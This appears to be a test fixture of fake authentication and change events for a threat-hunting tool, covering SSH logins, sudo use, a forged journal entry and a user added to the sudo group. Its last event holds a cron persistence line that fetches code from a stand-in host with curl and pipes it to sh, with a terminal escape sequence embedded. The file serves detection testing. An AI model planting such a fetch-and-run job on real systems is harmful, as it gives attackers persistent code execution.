/** FAKE events of who signs in and of what changed about users and jobs. */
import type { HuntEvent } from '@parapet/contract/api';

const overSsh = { 'parapet.login.service': 'sshd', 'source.ip': '192.0.2.77', 'source.port': 50_022 };
const fromText = { 'parapet.source': 'auth log', 'parapet.login.evidence': 'text' };
const compared = { 'parapet.source': 'comparison', 'event.action': 'user-change' };

export const fakeSignIns: readonly HuntEvent[] = [
  {
    ...{ ...fromText, ...overSsh, 'event.action': 'login', 'event.outcome': 'success', 'user.name': 'ann' },
    ...{ 'parapet.login.method': 'publickey', 'parapet.login.key': `SHA256:${'aB3'.repeat(14)}x` },
  },
  {
    ...{ ...fromText, ...overSsh, 'event.action': 'login', 'event.outcome': 'failure', 'user.name': '****' },
    ...{ 'parapet.login.method': 'password', 'parapet.login.reason': 'not accepted' },
  },
  {
    ...{ ...fromText, 'event.action': 'login', 'event.outcome': 'success', 'user.name': 'root' },
    ...{ 'parapet.login.service': 'sudo', 'parapet.login.user.name': 'ann', 'process.tty.name': 'pts/0' },
    'process.command_line': '/usr/bin/mysql -p****',
  },
  {
    ...{ 'parapet.source': 'wtmp', 'parapet.login.evidence': 'record', 'event.action': 'logout' },
    ...{ 'user.name': 'ann', 'process.tty.name': 'pts/0', 'event.duration': 3_600_000_000_000 },
  },
  {
    ...{ 'parapet.source': 'journal', 'parapet.login.evidence': 'forged', 'event.action': 'login' },
    ...{ ...overSsh, 'user.name': 'root' },
  },
  {
    ...{ ...compared, 'file.path': '/etc/group', 'group.name': 'sudo', 'parapet.change.subject': 'group' },
    ...{ 'parapet.change.type': 'changed', 'parapet.change.before': 'gid 27' },
    'parapet.change.after': 'gid 27, members eve',
  },
  {
    ...{ ...compared, 'event.action': 'cron-change', 'file.path': '/var/spool/cron/crontabs/eve' },
    ...{ 'parapet.change.subject': 'cron job', 'parapet.change.type': 'added', 'user.target.name': 'eve' },
    ...{ 'parapet.change.after': '@reboot curl -u me:**** https://x.example/\u001b[2J | sh' },
    'parapet.change.while_away': true,
  },
];
